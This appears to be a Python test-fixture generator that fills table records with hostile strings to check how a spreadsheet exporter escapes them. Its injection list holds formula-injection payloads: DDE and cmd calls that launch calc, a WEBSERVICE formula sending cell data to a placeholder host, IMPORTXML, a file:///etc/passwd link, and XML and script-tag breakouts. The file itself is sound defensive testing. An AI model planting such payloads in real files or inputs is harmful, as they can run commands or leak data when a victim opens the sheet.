#!/usr/bin/env python3
"""hostile-records.py FIELDS RECORDS EXPECT [--all]: record lines whose texts are everything that ever broke a table.

FIELDS is what `views_driver fields` prints.  Into every text field go the known injections, every control, every noncharacter and lone surrogates
(as JSON escapes, the way they arrive); every Unicode code point stands in some field, with --all in every one.  EXPECT gets, row by row of every table,
what the text fields must say: {"table":…,"fields":{name: text}}, where a reader may see U+FFFD for what is no character."""
import json, sys

FIELDS, RECORDS, EXPECT = sys.argv[1:4]
ALL = '--all' in sys.argv
FIRST = '=+-@\t\r\n\0＝＋－＠'
INJECTIONS = [
    '=1+1', '+1+1', '-1+1', '@SUM(A1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://x.invalid","开")', '=IMPORTXML("http://x.invalid","//a")', '-2+3+cmd|\' /C calc\'!A0',
    '=WEBSERVICE("http://x.invalid/"&A1)', '@=1+1', '\t=1+1', '\r=1+1', '\n=1+1', '\0=1+1', '＝1＋1', '＋1', '－1', '＠a', "'=1", "''=1", "'", "''", ' =1', '\u00a0=1', '\ufeff=1', '\u200b=1',
    '";=1', '",=1+1,"', '"\r\n=1+1', '"', '""', '\\"', '\\', ';=1', '=1;=2', '{=1}', '%0A=1', 'DDE("cmd";"/C calc";"x")', 'http://x.invalid/', 'https://x.invalid/?a=1&b=2', 'mailto:a@x.invalid',
    'file:///etc/passwd', 'internal:Sheet1!A1', 'external:c:\\x.xlsx', '{"a":1}', '_x0041_', '_x005F_x0041_', '_xD800_', '_x000D_', '_x0000_', '__x0041__', '_x004', '_X0041_', '_x00e9_',
    ']]>', '<![CDATA[x]]>', '<!--', '-->', '<?xml version="1.0"?>', '<!DOCTYPE a [<!ENTITY b "c">]>&b;', '&amp;', '&#0;', '&#x1F;', '&lt;', '<f>1+1</f>', '</t></is></c><c><f>1+1</f></c>', '</script><script>1</script>',
    '007', '1e5', '12345678901234567890', '-0', '1/2', '2026-11-22', 'TRUE', '#REF!', '#N/A', 'NULL', '0x10', '１２３', '\u202e=1', '\u2028=1', '\u0085x', ' lead', 'trail ', '\n', ' ', '', 'a\tb', 'a\r\nb', 'a\rb',
    '\U0001F600', 'e\u0301', '\u0301', '\U000E0041', '字' * 300,
] + [c + 'x' for c in map(chr, list(range(32)) + [127] + list(range(128, 160)))] + ['x' + c + 'y' for c in map(chr, range(32))]
LONG = ['长' * 40000, '\U0001F600' * 20000, '_x0041_' * 6000, '=' * 40000, '\x01' * 32768, 'x' * 32767, 'x' * 32768]
INTS = [0, -1, 7, 999999999999999, 1000000000000000, 12345678901234567890, -999999999999999]
TIMES = ['2026-11-22T02:00:00.000Z', '2026-11-22T02:00:00.001Z', '1969-12-31T23:59:59.999Z', '1900-02-28T15:59:59.999Z', '1900-02-28T16:00:00.000Z', '1900-02-28T23:59:59.999Z', '1900-03-01T00:00:00.000Z',
         '0001-01-01T00:00:00.000Z', '9999-12-31T15:59:59.999Z', '9999-12-31T23:59:59.999Z', '1991-04-14T00:00:00.000Z']


def apart(cps):
    """Lone surrogates stay lone."""
    return ''.join(chr(c) + ('x' if 0xD800 <= c < 0xE000 else '') for c in cps)


def is_noncharacter(c):
    return c & 0xFFFE == 0xFFFE or 0xFDD0 <= c <= 0xFDEF


def shown(text):
    return ''.join('\ufffd' if 0xD800 <= ord(c) < 0xE000 or is_noncharacter(ord(c)) else c for c in text)


step = 8000 if ALL else 1024
points = [apart(range(a, min(a + step, 0x110000))) for a in range(0, 0x110000, step)]
odd = [apart([c for c in range(0x110000) if is_noncharacter(c)]), apart([0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xFEFF, 0xFFFC])]
streams = {}
for line in open(FIELDS, encoding='utf-8'):
    stream, kind, name, kind_of = line.rstrip('\n').split('\t')
    streams.setdefault(stream, (kind, []))[1].append((name, kind_of))
turn, seen = 0, set()
with open(RECORDS, 'w', encoding='ascii', newline='\n') as out, open(EXPECT, 'w', encoding='utf-8', newline='\n') as expect:
    def record(stream, kind, number, n, fields):
        table = {'messages': 'messages-2026-11', 'others': 'others-unknown'}.get(stream, stream)
        if kind == 'message':
            n['sent_at'] = TIMES[0]
        line = {'_s': 'A' * 22, 'kind': kind, 'id': str(number), 'tenant': 't', 'source': {'platform': 'wecom', 'endpoint': stream, 'fetched_at': TIMES[number % 2]}, 'flags': ['hostile'] if number % 3 else [],
                'n': n, 'raw': {'a': [number, n.get('id', '')]}}
        if number % 5 == 0:
            line['version'] = n['id'] if isinstance(n.get('id'), str) else 'v'
        out.write(json.dumps(line, separators=(',', ':')) + '\n')
        for name, text in n.items():
            if (name, 'text') in fields and text is not None:
                seen.update(shown(text))
        expect.write(json.dumps({'table': table, 'fields': {f: shown(n[f]) for f, t in fields if t == 'text' and isinstance(n.get(f), str)}}) + '\n')

    for stream, (kind, fields) in streams.items():
        texts = INJECTIONS + odd + (LONG if kind == 'message' else []) + (points if ALL else [])
        if not ALL:  # every code point somewhere: this stream's share
            share = [p for i, p in enumerate(points) if i % len(streams) == turn]
            turn += 1
        places = [k for k, (name, t) in enumerate(fields) if t == 'text' and (name != 'id' or len(fields) == 1)]
        for number in range(len(texts) + (0 if ALL else len(share))):
            n = {}
            for k, (name, kind_of) in enumerate(fields):
                text = texts[number] if number < len(texts) else share[number - len(texts)] if k == places[number % len(places)] else INJECTIONS[(number + k) % len(INJECTIONS)]
                if len(text) > 16000 and name != 'text' or name == 'id' and len(text) > 4096 and not ALL:
                    text = str(number)
                if number % 7 == 6 and k % 4 == 3 and number < len(INJECTIONS) and k != 3:
                    if k % 8 == 3:
                        n[name] = None  # not granted
                    continue  # else absent
                n[name] = {'text': text, 'list': [text, 'b'] if number % 2 else [text] if number % 4 else [], 'json': {'k': text, text: [text]}, 'int': INTS[number % len(INTS)], 'bool': bool(number % 2),
                           'time': TIMES[number % len(TIMES)]}[kind_of]
            record(stream, kind, number, n, fields)

assert len(seen) == 0x110000 - 2048 - 66, len(seen)  # every code point but surrogates and noncharacters, which U+FFFD stands for
